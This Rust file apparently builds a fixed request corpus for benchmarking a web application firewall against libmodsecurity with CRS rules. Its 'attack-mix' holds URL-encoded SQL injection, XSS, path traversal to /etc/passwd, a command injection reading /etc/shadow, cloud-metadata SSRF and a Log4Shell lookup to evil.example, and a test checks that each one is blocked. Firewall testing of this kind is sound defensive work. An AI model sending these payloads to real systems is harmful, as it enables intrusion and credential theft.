//! What the engine benchmarks run: a fixed corpus of requests built here (never read from
//! elsewhere, so every run measures the same bytes), CRS v4.28.0 at a chosen paranoia level,
//! and one transaction's full lifecycle through either backend.
//!
//! The lifecycle is the one `rampart serve` drives: connection, request line, headers,
//! phase 1, body, phase 2, a small JSON response through phases 3 and 4, logging. Both
//! backends get exactly the same calls, so the ratio between them is the engines' alone.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use anyhow::{anyhow, Context, Result};
use rampart_proxy::backend::{Backend, Native};

/// One request of the corpus.
#[derive(Debug, Clone)]
pub struct Request {
    pub method: &'static str,
    pub uri: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

/// A named group of requests measured together (time per transaction is per request).
#[derive(Debug, Clone)]
pub struct Scenario {
    pub name: &'static str,
    pub requests: Vec<Request>,
}

fn browser_headers(host: &str) -> Vec<(String, String)> {
    [
        ("Host", host),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        ),
        ("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Referer", "https://shop.example.com/catalog/shoes"),
        (
            "Cookie",
            "session=6f1c2a9be04d4c1f8a7e3b52d9c0e1f4; theme=dark; consent=analytics%3A0%2Cads%3A0",
        ),
        ("Connection", "keep-alive"),
    ]
    .into_iter()
    .map(|(n, v)| (n.to_string(), v.to_string()))
    .collect()
}

fn with_body(
    mut headers: Vec<(String, String)>,
    content_type: &str,
    body: &[u8],
) -> Vec<(String, String)> {
    headers.push(("Content-Type".into(), content_type.into()));
    headers.push(("Content-Length".into(), body.len().to_string()));
    headers
}

fn order_json(i: usize) -> String {
    format!(
        concat!(
            "{{\"order_id\":\"ord-{i:06}\",\"customer\":{{\"id\":{i},\"name\":\"Alice Example\",",
            "\"email\":\"alice{i}@example.com\",\"phone\":\"+44 20 7946 0{i:03}\"}},",
            "\"items\":[{{\"sku\":\"SHOE-RUN-42\",\"qty\":1,\"price\":89.99}},",
            "{{\"sku\":\"SOCK-3PK\",\"qty\":2,\"price\":9.5}}],",
            "\"shipping\":{{\"street\":\"221B Baker Street\",\"city\":\"London\",\"postcode\":\"NW1 6XE\",",
            "\"country\":\"GB\"}},\"notes\":\"Please leave the parcel with the neighbour if nobody is in.\",",
            "\"coupon\":null,\"gift\":false,\"tags\":[\"web\",\"spring-sale\"]}}"
        ),
        i = i
    )
}

/// The benign scenarios and the attack mix, as issue #7 lists them.
pub fn scenarios() -> Vec<Scenario> {
    let host = "shop.example.com";
    let get = Request {
        method: "GET",
        uri: "/catalog/search?q=trail+running+shoes&category=sports&size=42&sort=price_asc&page=2"
            .into(),
        headers: browser_headers(host),
        body: Vec::new(),
    };
    let form_body =
        b"username=alice%40example.com&password=correct+horse+battery+staple&remember=on&csrf_token=4f9a2c1e8b7d6053"
            .to_vec();
    let form = Request {
        method: "POST",
        uri: "/account/login".into(),
        headers: with_body(
            browser_headers(host),
            "application/x-www-form-urlencoded",
            &form_body,
        ),
        body: form_body,
    };
    let mut json_body = order_json(1);
    while json_body.len() < 1000 {
        json_body.insert_str(
            json_body.len() - 1,
            ",\"padding\":\"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"",
        );
    }
    let json = Request {
        method: "POST",
        uri: "/api/v2/orders".into(),
        headers: with_body(
            browser_headers(host),
            "application/json",
            json_body.as_bytes(),
        ),
        body: json_body.into_bytes(),
    };
    let boundary = "----rampartbenchboundary7MA4YWxkTrZu0gW";
    let file: Vec<u8> = (0..64 * 1024)
        .map(|i| b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789\n"[i % 63])
        .collect();
    let mut multipart = Vec::new();
    multipart.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nQuarterly report\r\n").as_bytes());
    multipart.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report.txt\"\r\nContent-Type: text/plain\r\n\r\n").as_bytes());
    multipart.extend_from_slice(&file);
    multipart.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let upload = Request {
        method: "POST",
        uri: "/documents/upload".into(),
        headers: with_body(
            browser_headers(host),
            &format!("multipart/form-data; boundary={boundary}"),
            &multipart,
        ),
        body: multipart,
    };
    // Large documents rather than many small ones: ModSecurity's recommended configuration
    // refuses a body with 1,000 arguments or more (rule 200007).
    let paragraph = "The quarterly figures show steady growth in every region, with returns \
                     falling after the new sizing guide went live and delivery times improving \
                     as the second warehouse came online. ";
    let mut big = String::from("[");
    let mut i = 0;
    while big.len() < 1 << 20 {
        if i > 0 {
            big.push(',');
        }
        big.push_str(&format!(
            "{{\"id\":{i},\"title\":\"Report {i}\",\"author\":\"team-{}\",\"body\":\"{}\"}}",
            i % 7,
            paragraph.repeat(60)
        ));
        i += 1;
    }
    big.push(']');
    let big_json = Request {
        method: "POST",
        uri: "/api/v2/orders/import".into(),
        headers: with_body(browser_headers(host), "application/json", big.as_bytes()),
        body: big.into_bytes(),
    };
    let attack_targets = [
        "/catalog/search?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--",
        "/catalog/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow",
        "/index.php?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
        "/api/v2/lookup?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "/catalog/search?q=1%20AND%20SLEEP(5)%23",
    ];
    let attacks = attack_targets
        .iter()
        .map(|t| Request {
            method: "GET",
            uri: (*t).to_string(),
            headers: browser_headers(host),
            body: Vec::new(),
        })
        .collect();
    vec![
        Scenario {
            name: "benign-get",
            requests: vec![get],
        },
        Scenario {
            name: "form-post",
            requests: vec![form],
        },
        Scenario {
            name: "json-post-1k",
            requests: vec![json],
        },
        Scenario {
            name: "multipart-64k",
            requests: vec![upload],
        },
        Scenario {
            name: "json-1m",
            requests: vec![big_json],
        },
        Scenario {
            name: "attack-mix",
            requests: attacks,
        },
    ]
}

/// The directory beside the project root that holds CRS and ModSecurity's files.
pub fn shared_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared")
}

/// CRS v4.28.0 in blocking mode at `paranoia`, as files in load order, after ModSecurity's
/// recommended configuration with two limits raised so that the 1 MB JSON upload is inspected
/// rather than refused (`SecRequestBodyNoFilesLimit` 2 MB, `SecArgumentsLimit` 500,000). The
/// settings go to a file in `scratch`.
pub fn crs_v4_files(paranoia: u8, scratch: &Path) -> Result<Vec<PathBuf>> {
    let shared = shared_dir();
    let crs = shared.join("crs/v4.28.0");
    let setting = scratch.join(format!("paranoia-{paranoia}.conf"));
    std::fs::write(
        &setting,
        format!(
            "SecRuleEngine On\nSecRequestBodyNoFilesLimit 2097152\nSecArgumentsLimit 500000\nSecAction \"id:900000,phase:1,pass,t:none,nolog,setvar:tx.blocking_paranoia_level={paranoia}\"\n"
        ),
    )
    .with_context(|| format!("writing {}", setting.display()))?;
    let mut files = vec![
        shared.join("modsecurity/modsecurity.conf-recommended"),
        setting,
        crs.join("crs-setup.conf.example"),
    ];
    let mut rules: Vec<PathBuf> = std::fs::read_dir(crs.join("rules"))
        .with_context(|| format!("reading {}", crs.display()))?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "conf"))
        .collect();
    rules.sort();
    files.extend(rules);
    Ok(files)
}

/// rampart's engine with `files`.
pub fn native(files: &[PathBuf]) -> Result<Box<dyn Backend>> {
    let set = rampart_engine::load(files).map_err(|errors| {
        anyhow!(
            "{}",
            errors
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("\n")
        )
    })?;
    Ok(Box::new(Native(Arc::new(set))))
}

/// libmodsecurity with `files` (a build with the `modsecurity` feature).
pub fn modsecurity(files: &[PathBuf]) -> Result<Box<dyn Backend>> {
    rampart_proxy::backend::modsecurity(files).map_err(|e| anyhow!("{e}"))
}

const RESPONSE_BODY: &[u8] =
    b"{\"status\":\"ok\",\"items\":[{\"id\":1,\"name\":\"Trail runner\",\"price\":89.99}]}";

/// One transaction's full lifecycle; returns the status a client would see.
pub fn transact(backend: &dyn Backend, request: &Request) -> u16 {
    let mut tx = backend.inspect();
    tx.process_connection("192.0.2.10", 51234, "10.0.0.5", 443);
    tx.process_uri(request.uri.as_bytes(), request.method.as_bytes(), b"1.1");
    for (name, value) in &request.headers {
        tx.add_request_header(name.as_bytes(), value.as_bytes());
    }
    tx.process_request_headers();
    if tx.intervention().is_none() {
        tx.append_request_body(&request.body);
        tx.process_request_body();
    }
    if tx.intervention().is_none() {
        tx.add_response_header(b"Content-Type", b"application/json");
        tx.add_response_header(
            b"Content-Length",
            RESPONSE_BODY.len().to_string().as_bytes(),
        );
        tx.process_response_headers(200, b"HTTP/1.1");
        if tx.intervention().is_none() {
            tx.append_response_body(RESPONSE_BODY);
            tx.process_response_body();
        }
    }
    tx.process_logging();
    tx.intervention().map_or(200, |i| i.status)
}

/// Resident memory of this process, in bytes (Linux).
pub fn resident_bytes() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb * 1024)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_has_the_promised_shapes() {
        let scenarios = scenarios();
        let by_name = |n: &str| scenarios.iter().find(|s| s.name == n).map(|s| &s.requests);
        let json = &by_name("json-post-1k").unwrap()[0];
        assert!(
            (1000..1400).contains(&json.body.len()),
            "{}",
            json.body.len()
        );
        let upload = &by_name("multipart-64k").unwrap()[0];
        assert!(upload.body.len() > 64 * 1024);
        let big = &by_name("json-1m").unwrap()[0];
        assert!(big.body.len() >= 1 << 20);
        serde_json::from_slice::<serde_json::Value>(&big.body).unwrap();
        serde_json::from_slice::<serde_json::Value>(&json.body).unwrap();
        assert_eq!(by_name("attack-mix").unwrap().len(), 8);
    }

    /// The attack mix is blocked and the benign scenarios pass at PL1, on the native engine
    /// (a benchmark of a rule set that blocks everything, or nothing, would measure little).
    #[test]
    fn verdicts_are_what_a_benchmark_needs() {
        let scratch = std::env::temp_dir().join(format!("rampart-bench-{}", std::process::id()));
        std::fs::create_dir_all(&scratch).unwrap();
        let files = crs_v4_files(1, &scratch).unwrap();
        let backend = native(&files).unwrap();
        for scenario in scenarios() {
            for request in &scenario.requests {
                let status = transact(backend.as_ref(), request);
                if scenario.name == "attack-mix" {
                    assert_eq!(status, 403, "{} {}", scenario.name, request.uri);
                } else {
                    assert_eq!(status, 200, "{} {}", scenario.name, request.uri);
                }
            }
        }
    }
}
